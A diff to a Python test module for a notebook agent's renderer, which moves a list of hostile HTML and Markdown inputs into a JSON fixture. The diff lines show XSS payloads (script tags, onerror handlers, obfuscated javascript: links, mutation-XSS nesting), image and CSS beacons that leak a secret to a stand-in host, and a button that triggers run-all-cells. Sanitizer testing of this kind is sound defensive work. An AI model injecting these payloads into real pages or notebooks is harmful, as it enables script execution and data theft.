@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import json
 import re
 from html.parser import HTMLParser
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -26,21 +28,7 @@ from nbagent.normalize import Normalizer
 from nbagent.transcript import Transcript
 from tests.strategies import event_sequences, texts
 
-HOSTILE = [
-    'Hello <img src=x onerror="window.__pwned=1"> world',
-    "<script>window.__pwned=1</script>\n\nafter",
-    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#x09;script:alert(1)) "
-    "<javascript:alert(1)> [e](data:text/html;base64,PHNjcmlwdD4=) [f](vbscript:x)",
-    "See [docs][x].\n\n[x]: javascript:window.__pwned=1",
-    '![chart](https://beacon.test/p.png?leak=SECRET) <img src="https://beacon.test/r.png">',
-    '<div style="background:url(https://beacon.test/c)">x</div>\n\n'
-    "<style>@import url(https://beacon.test/i.css);</style>",
-    '<button data-commandlinker-command="notebook:run-all-cells">Continue</button>',
-    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
-    '<a href="https://ok.test" title="\n\n" onmouseover="window.__pwned=1">hover</a>',
-    "Intro **bold and `code\n\n| a | b |\n|---|\n\n[link](javascript:alert(1)\n\n$$\n\\frac{1}{\n\n"
-    "```python\nprint('<img src=x onerror=alert(1)>')\n# **not bold**",
-]
+HOSTILE: list[str] = json.loads((Path(__file__).parent / "fixtures" / "hostile.json").read_text())
 EXTRA = [
     "\\`<img src=x onerror=1>`",
     "x `y\n`<img src=x onerror=1>` z",
